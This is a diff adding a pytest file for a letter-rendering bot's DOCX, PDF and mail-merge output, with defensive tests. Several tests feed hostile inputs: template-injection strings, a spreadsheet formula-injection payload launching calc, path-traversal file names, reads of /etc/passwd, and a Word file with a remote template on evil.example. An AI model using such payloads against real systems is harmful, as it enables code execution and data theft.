@@ -1,0 +1,518 @@
+"""A letter's documents: both say the same, in the same bytes every time, and nothing that is written in them runs."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+import subprocess
+import zipfile
+from dataclasses import replace
+from pathlib import Path
+
+import docx as python_docx
+import pikepdf
+import pytest
+
+from bot.congress.model import Addressee
+from bot.letters.documents.render import docx, labels, merge, names, pdf
+from bot.letters.documents.sheet import sheet
+from bot.letters.drafting.plain_text import plain
+from bot.letters.model import Evidence, Paragraph, Shape, Signature, Written
+from bot.printing.parts import DocumentProblem
+from tests.documents_kit import (
+    LETTER,
+    OFFICE,
+    ROOT,
+    SIGNERS,
+    own_templates,
+    pages_of_pdf,
+    run_together,
+    saying,
+    to_senators,
+    words_of_docx,
+    words_of_pdf,
+)
+from tests.peers.need import need
+
+GOLDEN = Path(__file__).parents[2] / "golden/letter.txt"
+PNG = bytes.fromhex(
+    "89504e470d0a1a0a0000000d4948445200000001000000010802000000907753de0000000c49444154789c6390b78a070001"
+    "3400b98f81f4600000000049454e44ae426082"
+)
+HOSTILE = (
+    "{{ 7 * 7 }} {% for x in y %} {# no #}",
+    '#read("/etc/hostname") *bold* _it_ $x^2$ #panic() `code` @ref <label> // no \\ end',
+    '<w:p/> ]]> <!-- --> &amp; & "quoted" ’ <?xml?>',
+    '=HYPERLINK("https://evil.example") file:///etc/passwd https://evil.example/a.css',
+)
+
+
+@pytest.fixture(scope="module")
+def made_docx():
+    return docx(LETTER, ROOT)
+
+
+@pytest.fixture(scope="module")
+def made_pdf():
+    return pdf(LETTER, ROOT)
+
+
+def test_the_docx_says_what_was_read_and_approved(made_docx):
+    assert words_of_docx(made_docx) + "\n" == GOLDEN.read_text(encoding="utf-8")
+
+
+@pytest.mark.parametrize("signatures", [SIGNERS, SIGNERS[:1], SIGNERS[:6], ()], ids=len)
+def test_docx_and_pdf_say_the_same_words_in_the_same_order(signatures):
+    letter, pdftotext = replace(LETTER, signatures=signatures), need("pdftotext")
+
+    in_pdf, in_docx = words_of_pdf(pdf(letter, ROOT), pdftotext), words_of_docx(docx(letter, ROOT))
+
+    assert run_together(in_pdf) == run_together(in_docx)
+    assert "José Ángel Núñez, Zoë Brontë-Ñandú" in " ".join(in_pdf.split())
+
+
+def test_libreoffice_reads_in_the_docx_what_python_docx_reads(made_docx, tmp_path):
+    (tmp_path / "letter.docx").write_bytes(made_docx)
+
+    profile = f"-env:UserInstallation=file://{tmp_path}/profile"
+    command = [need("soffice"), profile, "--headless", "--convert-to", "txt:Text (encoded):UTF8", "letter.docx"]
+    subprocess.run(command, cwd=tmp_path, check=True, capture_output=True)
+
+    read = (tmp_path / "letter.txt").read_text(encoding="utf-8-sig")
+    assert run_together(read) == run_together(words_of_docx(made_docx))
+
+
+@pytest.mark.parametrize("make", [docx, pdf])
+def test_the_same_letter_makes_the_same_bytes(make):
+    assert make(LETTER, ROOT) == make(LETTER, ROOT)
+
+
+def test_the_docx_has_the_styles_that_staff_restyle_and_a_heading_to_go_to(made_docx):
+    styles = {
+        paragraph.text: paragraph.style.name for paragraph in python_docx.Document(io.BytesIO(made_docx)).paragraphs
+    }
+
+    assert styles["Re: Victim money for victims: no joint grant applications"] == "Heading 1"
+    assert styles["What we ask"] == styles["Signed by 11 organizations"] == "Heading 2"
+    assert styles[LETTER.written.body[4].text] == "List Bullet"
+    assert styles["Example Coalition Against Trafficking"] == "Letterhead"
+
+
+def test_the_docx_is_dated_like_the_letter_and_knows_its_title_and_language(made_docx):
+    document = python_docx.Document(io.BytesIO(made_docx))
+    about = document.core_properties
+
+    assert (about.title, about.author) == (LETTER.written.subject, LETTER.sender[0])
+    assert about.language == "en-US"
+    assert f"{about.created:%F %T}" == f"{about.modified:%F %T}" == "2026-11-25 00:00:00"
+    assert {element.get(python_docx.oxml.ns.qn("w:val")) for element in document.styles.element.iter("{*}lang")} == {
+        "en-US"
+    }
+
+
+def test_nothing_in_the_docx_points_outside_it(made_docx):
+    with zipfile.ZipFile(io.BytesIO(made_docx)) as archive:
+        for name in archive.namelist():
+            assert b'TargetMode="External"' not in archive.read(name), name
+
+
+def test_the_pdf_is_tagged_and_has_title_language_and_its_fonts(made_pdf):
+    with pikepdf.open(io.BytesIO(made_pdf)) as document:
+        root = document.Root
+        assert bool(root.MarkInfo.Marked)
+        assert str(root.Lang) == "en-US"
+        assert bool(root.ViewerPreferences.DisplayDocTitle)
+        about = document.open_metadata()
+        assert about["dc:title"] == LETTER.written.subject
+        assert about["pdfuaid:part"] == "1"
+        assert tags(root.StructTreeRoot) >= {"/Document", "/H1", "/H2", "/P", "/L", "/LI"}
+        fonts = [obj for obj in document.objects if isinstance(obj, pikepdf.Dictionary) and "/FontName" in obj]
+        assert fonts
+        assert all("/FontFile3" in font or "/FontFile2" in font for font in fonts)
+        assert not [obj for obj in document.objects if isinstance(obj, pikepdf.Dictionary) and "/URI" in obj]
+
+
+def tags(node: pikepdf.Object) -> set[str]:
+    """The kinds of everything in a structure tree."""
+    found = {str(node.S)} if "/S" in node else set()
+    kids = node.get("/K", [])
+    for kid in kids if isinstance(kids, pikepdf.Array) else [kids]:
+        if isinstance(kid, pikepdf.Dictionary) and ("/S" in kid or "/K" in kid):
+            found |= tags(kid)
+    return found
+
+
+def test_every_page_has_the_number_and_the_last_alone_has_the_digest_of_the_signed_text(made_pdf, made_docx):
+    run = subprocess.run([need("pdftotext"), "-", "-"], input=made_pdf, capture_output=True, check=True)
+
+    first, last = run.stdout.decode().split("\f")[:-1]
+    assert all("L-014, version 3" in page for page in (first, last))
+    assert "9c41b6" not in first
+    assert f"Text {LETTER.digest[:12]}\n" in last
+    assert LETTER.digest[:13] not in last
+    document = python_docx.Document(io.BytesIO(made_docx))
+    section = document.sections[0]
+    assert {part.paragraphs[0].text.split("\t")[0] for part in (section.footer, section.first_page_footer)} == {
+        "L-014, version 3"
+    }
+    assert document.paragraphs[-1].text == f"Text {LETTER.digest[:12]}"
+
+
+def test_from_the_second_page_on_the_head_says_who_the_letter_is_to_and_its_date(made_pdf, made_docx):
+    first, second = pages_of_pdf(made_pdf, need("pdftotext"))
+
+    head = "TheDirector,OfficeforVictimsofCrimeNovember25,2026"
+    assert second[0] == head
+    assert head not in first
+    section = python_docx.Document(io.BytesIO(made_docx)).sections[0]
+    assert run_together(section.header.paragraphs[0].text) == head
+    assert section.different_first_page_header_footer
+    assert not section.first_page_header.paragraphs[0].text
+
+
+def test_the_head_of_a_statement_to_the_press_is_its_subject():
+    press = Addressee(id="press", name="the press", block=(), salutation="")
+
+    assert sheet(replace(LETTER, to=press))["continued"] == LETTER.written.subject
+
+
+# As many lines of text as fill the first page to where each letter's signatures would be torn.
+@pytest.mark.parametrize("lines", range(6, 18, 2))
+@pytest.mark.parametrize("signers", [5, 12, 16])
+def test_the_signatures_keep_together_on_one_page_with_what_is_said_of_them(lines, signers):
+    crowd = tuple(Signature(organisation=f"Network {place:02}", signatory="A. Name") for place in range(signers))
+    letter = replace(
+        saying(*["One line."] * lines),
+        signatures=(*crowd[1:], replace(crowd[0], evidence=Evidence.EMAIL)),
+        digest="a" * 64,
+    )
+
+    pages = pages_of_pdf(pdf(letter, ROOT), need("pdftotext"))
+
+    (block,) = (page for page in pages if any(line.startswith("Signedby") for line in page))
+    assert sum("".join(block).count(f"Network{place:02}") for place in range(signers)) == signers
+    assert "Textaaaaaaaaaaaa" in block
+
+
+def test_a_list_stays_with_the_words_that_lead_to_it():
+    for lines in range(14, 22):
+        body = [Paragraph("One line.")] * lines + [Paragraph("We ask you to:"), Paragraph("act.", Shape.ITEM)]
+        letter = replace(LETTER, written=Written(subject="S", body=(*body, Paragraph("Thanks."))), signatures=())
+        pages = pages_of_pdf(pdf(letter, ROOT), need("pdftotext"))
+
+        (page,) = (page for page in pages if "Weaskyouto:" in page)
+        assert "act." in page
+
+
+def test_word_file_and_pdf_break_their_lines_and_pages_in_the_same_places(tmp_path):
+    """By LibreOffice, which takes Liberation Serif for the Times New Roman of the Word file, as it has its widths."""
+    texts = [paragraph for paragraph in LETTER.written.body if paragraph.shape is Shape.TEXT]
+    bodies = {
+        "whole": LETTER.written.body,
+        "short": LETTER.written.body[:5] + LETTER.written.body[-1:],
+        "one-page": LETTER.written.body[:2],
+        "long": LETTER.written.body + tuple(texts) * 2,
+        "just-over": LETTER.written.body[:8] + tuple(texts[:1]),
+    }
+    letters = {
+        f"{name}-{signers}": replace(LETTER, written=replace(LETTER.written, body=body), signatures=SIGNERS[:signers])
+        for name, body in bodies.items()
+        for signers in (0, 3, 11)
+    }
+    for name, letter in letters.items():
+        (tmp_path / f"{name}.docx").write_bytes(docx(letter, ROOT))
+    profile = f"-env:UserInstallation=file://{tmp_path}/profile"
+    command = [need("soffice"), profile, "--headless", "--convert-to", "pdf", *(f"{name}.docx" for name in letters)]
+    subprocess.run(command, cwd=tmp_path, check=True, capture_output=True)
+
+    for name, letter in letters.items():
+        from_word = pages_of_pdf((tmp_path / f"{name}.pdf").read_bytes(), need("pdftotext"))
+        assert from_word == pages_of_pdf(pdf(letter, ROOT), need("pdftotext")), name
+
+
+def test_a_text_that_nobody_signed_says_so_on_every_page():
+    assert sheet(replace(LETTER, digest="", signatures=()))["foot"] == "L-014, version 3 · not final, not for sending"
+
+
+def test_a_letter_of_examples_has_no_number():
+    assert sheet(replace(LETTER, number="", digest=""))["foot"] == "not final, not for sending"
+
+
+@pytest.mark.parametrize("lines", range(14, 21))
+def test_the_closing_never_stands_on_a_page_by_itself(lines):
+    letter = replace(saying(*["One line."] * lines, "The last of what we say."), signatures=())
+    run = subprocess.run([need("pdftotext"), "-", "-"], input=pdf(letter, ROOT), capture_output=True, check=True)
+
+    page = run.stdout.decode().split("\f")[-2]
+
+    assert "The last of what we say.\nSincerely," in page.replace("\n\n", "\n")
+    assert "Text 9c41b6f0d2a8" in page
+
+
+def test_signatures_are_counted_in_order_and_those_given_elsewhere_are_marked():
+    made = sheet(LETTER)
+    read = [signer["organization"] + signer["mark"] for row in made["rows"] for signer in row]
+
+    assert made["signed"] == "Signed by 11 organizations"
+    assert read[:3] == [
+        "Children First Network",
+        "City Coalition for Survivors and Their Families",
+        "Freedom Farmworkers Alliance*",
+    ]
+    assert read[-4:] == ["United Tenants", "Vérité Worldwide, Inc.", "Voices of Experience", ""]
+    assert made["notes"][0].startswith("* Signature given in writing")
+
+
+def test_an_accent_does_not_send_an_organization_to_the_end_of_the_list():
+    signed = [Signature(organisation=name) for name in ("Zeta", "Éducation pour tous", "Freedom", "The Door")]
+
+    rows = sheet(replace(LETTER, signatures=tuple(signed)))["rows"]
+
+    names = [signer["organization"] for row in rows for signer in row]
+    assert names == ["Éducation pour tous", "Freedom", "The Door", "Zeta", "", ""]
+
+
+def test_a_letter_with_no_signatures_leaves_room_to_sign_for_the_sender():
+    assert "Sincerely,\nExample Coalition Against Trafficking\n" in words_of_docx(
+        docx(replace(LETTER, signatures=()), ROOT)
+    )
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_what_people_write_is_text_in_both_documents(text):
+    letter = replace(saying(text), to=replace(OFFICE, block=(text,)), signatures=(Signature(organisation=text),))
+
+    in_pdf, in_docx = words_of_pdf(pdf(letter, ROOT), need("pdftotext")), words_of_docx(docx(letter, ROOT))
+
+    assert in_docx.count(text) == 3
+    assert run_together(in_pdf) == run_together(in_docx)
+
+
+@pytest.mark.parametrize("make", [docx, pdf])
+def test_signs_that_no_document_can_hold_are_left_out(make):
+    said = "A\ud800B\ufffeC\x00D\x0bE\x1bF\u202eG\tH\nI \uffff\udfff"
+    clean = "ABCD EFG H I"
+
+    made = make(saying(said), ROOT)
+
+    assert clean in (words_of_docx(made) if make is docx else words_of_pdf(made, need("pdftotext")))
+
+
+def test_ten_thousand_signatures_make_both_documents():
+    crowd = tuple(Signature(organisation=f"Organization {place:05}", signatory="A. Name") for place in range(10_000))
+    letter = replace(LETTER, signatures=crowd)
+
+    assert words_of_docx(docx(letter, ROOT)).count("A. Name") == 10_000
+    with pikepdf.open(io.BytesIO(pdf(letter, ROOT))) as document:
+        assert len(document.pages) > 50
+    assert sheet(letter)["signed"] == "Signed by 10,000 organizations"
+
+
+@pytest.mark.parametrize("make", [docx, pdf])
+def test_a_megabyte_in_one_paragraph_is_set_and_two_are_refused_with_what_to_do(make):
+    assert make(saying("word " * 199_000), ROOT)
+    with pytest.raises(DocumentProblem, match=r"L-014 has 2,000,\d+ characters; a letter may have 1,000,000\. Put"):
+        make(saying("x" * 2_000_000), ROOT)
+
+
+@pytest.mark.parametrize(
+    ("template", "said"),
+    [
+        ("#while true { }", "letter.typ cannot be set: condition is always true"),
+        ("#let f(n) = f(n + 1)\n#f(1)", "letter.typ cannot be set: maximum function call depth"),
+        ("#let a = (1,)\n#for i in range(40) { a = a + a }", "takes more than 10 seconds or 1 GB"),
+        ('#read("../coalition.yml")', "would escape the project root"),
+        ('#image("https://evil.example/a.png")', "letter.typ cannot be set: file not found"),
+        ('#import "@preview/cades:0.3.0": *', "letter.typ imports a package. Nothing is fetched here"),
+        ("#letter", "letter.typ cannot be set: unknown variable"),
+        ('= No title\n#import "/etc/passwd"', "letter.typ cannot be set"),
+    ],
+)
+def test_a_pdf_template_that_asks_too_much_is_named(tmp_path, template, said):
+    with pytest.raises(DocumentProblem, match=f"^L-014 to the Director, Office for Victims of Crime: .*{said}"):
+        pdf(LETTER, own_templates(tmp_path, letter_typ=template))
+
+
+@pytest.mark.parametrize(
+    ("text", "said"),
+    [
+        ("{{ no_such_word }}", "letterhead.docx cannot be filled in: 'no_such_word' is undefined"),
+        ("{% if date %}", "letterhead.docx cannot be read: Unexpected end of template"),
+        ("{{ date.__class__ }}", "letterhead.docx cannot be filled in: access to attribute '__class__'"),
+        ("{% for a in 'xx' * 9999999 %}{% for b in 'xx' * 9999999 %}{% endfor %}{% endfor %}", "takes more than 10 s"),
+        ("{{ ('x' * 99999999) * 99 }}", "letterhead.docx cannot be filled in|takes more than 10 seconds or 1 GB"),
+    ],
+)
+def test_a_word_file_that_asks_too_much_is_named(tmp_path, monkeypatch, text, said):
+    file = python_docx.Document(ROOT / "templates/letterhead.docx")
+    file.add_paragraph(text)
+    saved = io.BytesIO()
+    file.save(saved)
+
+    with pytest.raises(DocumentProblem, match=said):
+        docx(LETTER, own_templates(tmp_path, letterhead_docx=saved.getvalue()))
+
+
+def test_a_word_file_that_fetches_something_when_it_is_opened_is_refused(tmp_path):
+    file = python_docx.Document(ROOT / "templates/letterhead.docx")
+    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
+    file.part.relate_to("https://evil.example/normal.dotm", kind, is_external=True)
+    saved = io.BytesIO()
+    file.save(saved)
+
+    with pytest.raises(DocumentProblem, match=r"letterhead\.docx fetches https://evil\.example/normal\.dotm"):
+        docx(LETTER, own_templates(tmp_path, letterhead_docx=saved.getvalue()))
+
+
+def test_a_file_that_is_no_word_file_is_named(tmp_path):
+    with pytest.raises(DocumentProblem, match=r"templates/letterhead\.docx cannot be read"):
+        docx(LETTER, own_templates(tmp_path, letterhead_docx=b"not a Word file"))
+
+
+@pytest.mark.parametrize(("make", "name"), [(docx, "letterhead.docx"), (pdf, "letter.typ")])
+def test_a_template_that_is_gone_or_a_link_is_named(tmp_path, make, name):
+    path = own_templates(tmp_path) / "templates" / name
+    path.unlink()
+    with pytest.raises(DocumentProblem, match=f"templates/{name} is not there"):
+        make(LETTER, tmp_path)
+    path.symlink_to("/etc/hostname")
+    with pytest.raises(DocumentProblem, match=f"templates/{name} is a link"):
+        make(LETTER, tmp_path)
+
+
+@pytest.mark.parametrize("make", [docx, pdf])
+def test_a_logo_stands_in_both_with_words_for_those_who_do_not_see_it(tmp_path, make):
+    made = make(LETTER, own_templates(tmp_path, logo_png=PNG))
+
+    if make is docx:
+        with zipfile.ZipFile(io.BytesIO(made)) as archive:
+            assert archive.read("word/media/image1.png") == PNG
+            assert 'descr="Logo of Example' in archive.read("word/document.xml").decode()
+        assert python_docx.Document(io.BytesIO(made)).inline_shapes
+    else:
+        assert b"/Alt" in made
+        with pikepdf.open(io.BytesIO(made)) as document:
+            assert "/Figure" in tags(document.Root.StructTreeRoot)
+
+
+@pytest.mark.parametrize("make", [docx, pdf])
+def test_a_logo_that_is_no_picture_is_refused(tmp_path, make):
+    with pytest.raises(DocumentProblem, match=r"templates/logo\.png is not a PNG picture of at most 1 MB"):
+        make(LETTER, own_templates(tmp_path, logo_png=b"<svg/>"))
+
+
+def test_a_sign_that_no_font_has_is_named_with_what_to_do():
+    with pytest.raises(DocumentProblem, match=r"cannot show “人”: no font here has it\. Put a font"):
+        pdf(saying("人身取引"), ROOT)
+    assert "人身取引" in words_of_docx(docx(saying("人身取引"), ROOT))
+
+
+@pytest.fixture(scope="module")
+def merged(tmp_path_factory):
+    told = []
+    path = tmp_path_factory.mktemp("merged") / "letters.zip"
+    merge(to_senators(5), ROOT, path, progress=lambda done, of: told.append((done, of)))
+    return path, told
+
+
+def test_a_mail_merge_tells_its_progress_letter_by_letter(merged):
+    assert merged[1] == [(1, 5), (2, 5), (3, 5), (4, 5), (5, 5)]
+
+
+def test_a_mail_merge_has_every_letter_twice_with_envelopes_and_labels(merged):
+    with zipfile.ZipFile(merged[0]) as archive:
+        assert archive.testzip() is None
+        letters = [f"00{place}-senator-nunez-{place}.{ending}" for place in range(1, 6) for ending in ("docx", "pdf")]
+        assert archive.namelist() == [*letters, "envelopes.pdf", "labels.csv"]
+        assert "Dear Senator Núñez 4:" in words_of_docx(archive.read("004-senator-nunez-4.docx"))
+        assert "Dear Senator Núñez 4:" in words_of_pdf(archive.read("004-senator-nunez-4.pdf"), need("pdftotext"))
+        envelopes = words_of_pdf(archive.read("envelopes.pdf"), need("pdftotext"))
+        assert re.findall(r"The Honorable José Núñez \d\nUnited States Senate", envelopes) == [
+            f"The Honorable José Núñez {place}\nUnited States Senate" for place in range(1, 6)
+        ]
+
+
+def test_a_mail_merge_makes_the_same_bytes_again(merged, tmp_path):
+    merge(to_senators(5), ROOT, tmp_path / "again.zip", progress=lambda *_: None)
+
+    assert (tmp_path / "again.zip").read_bytes() == merged[0].read_bytes()
+
+
+def test_a_mail_merge_that_fails_names_the_letter_and_leaves_nothing(tmp_path):
+    letters = to_senators(4)
+    letters[2] = replace(letters[2], written=Written(subject="人", body=()))
+
+    with pytest.raises(DocumentProblem, match=r"^L-014 to Senator Núñez 3: The PDF cannot show “人”"):
+        merge(letters, ROOT, tmp_path / "letters.zip", progress=lambda *_: None)
+    assert not list(tmp_path.iterdir())
+
+
+def test_a_mail_merge_of_nobody_is_an_empty_file(tmp_path):
+    merge([], ROOT, tmp_path / "none.zip", progress=lambda *_: None)
+
+    assert zipfile.ZipFile(tmp_path / "none.zip").namelist() == []
+
+
+@pytest.mark.parametrize("name", ["../../etc/passwd", "C:\\con", "", "a" * 400, "\u202egnp.exe", "Ã‰ / \x00"])
+def test_the_names_of_files_are_safe_and_each_is_its_own(name):
+    addressee = Addressee(id="x", name=name, block=(), salutation="")
+
+    made = names([replace(LETTER, to=addressee)] * 3)
+
+    assert len(set(made)) == 3
+    assert all(re.fullmatch(r"00\d-[a-z0-9-]{1,60}", each) for each in made)
+
+
+@pytest.mark.parametrize("begins", ["=", "+", "-", "@"])
+def test_no_cell_of_the_labels_is_run_by_a_spreadsheet(begins):
+    line = f"{begins}cmd|' /C calc'!A0"
+    addressee = Addressee(id="x", name=line, block=(line, "Washington, DC"), salutation=line)
+
+    _, row = csv.reader(io.StringIO(labels([replace(LETTER, to=addressee)]).decode("utf-8-sig")))
+
+    assert row == ["001-cmd-c-calc-a0", f"'{line}", f"'{line}", f"'{line}", "Washington, DC"]
+
+
+def test_a_joint_letter_has_an_envelope_for_each_addressee(tmp_path):
+    both = Addressee(id="joint:x", name="both", block=("A", "Senate", "", "B"), salutation="Dear A and B:")
+    letter = replace(LETTER, to=both)
+
+    merge([letter], ROOT, tmp_path / "joint.zip", progress=lambda *_: None)
+
+    with zipfile.ZipFile(tmp_path / "joint.zip") as archive, pikepdf.open(archive.open("envelopes.pdf")) as envelopes:
+        assert len(envelopes.pages) == 2
+        rows = list(csv.reader(io.StringIO(archive.read("labels.csv").decode("utf-8-sig"))))
+    assert rows[1:] == [
+        ["001-both", "both", "Dear A and B:", "A", "Senate"],
+        ["001-both", "both", "Dear A and B:", "B", ""],
+    ]
+    assert words_of_docx(docx(letter, ROOT)).split("Re:")[0].endswith("A\nSenate\n\nB\n")
+
+
+@pytest.mark.parametrize("signatures", [LETTER.signatures, ()], ids=["signed", "by nobody"])
+def test_a_statement_that_goes_to_nobody_has_no_address_no_salutation_and_no_closing(signatures):
+    press = Addressee(id="press", name="the press", block=(), salutation="")
+    letter = replace(LETTER, sender=LETTER.sender[:1], to=press, closing="", signatures=signatures)
+
+    said = words_of_docx(docx(letter, ROOT))
+
+    assert "November 25, 2026\nVictim money for victims: no joint grant applications\nWe write for" in said
+    assert said.count(letter.sender[0]) == 1
+    assert "Sincerely" not in said + plain(letter)
+    assert run_together(words_of_pdf(pdf(letter, ROOT), need("pdftotext"))) == run_together(said)
+
+
+def test_a_paragraph_with_nothing_in_it_is_none():
+    written = Written(subject="x", body=(Paragraph(" \x00 "), Paragraph("\n", Shape.ITEM), Paragraph("said")))
+
+    assert sheet(replace(LETTER, written=written))["body"] == [{"shape": "text", "text": "said"}]
+
+
+def test_the_bot_itself_loads_neither_word_nor_typst():
+    code = "import sys, bot.letters.documents.render; print({'docx', 'docxtpl', 'typst', 'lxml'} & set(sys.modules))"
+    run = subprocess.run(
+        [__import__("sys").executable, "-c", code], cwd=ROOT, capture_output=True, text=True, check=True
+    )
+
+    assert run.stdout == "set()\n"
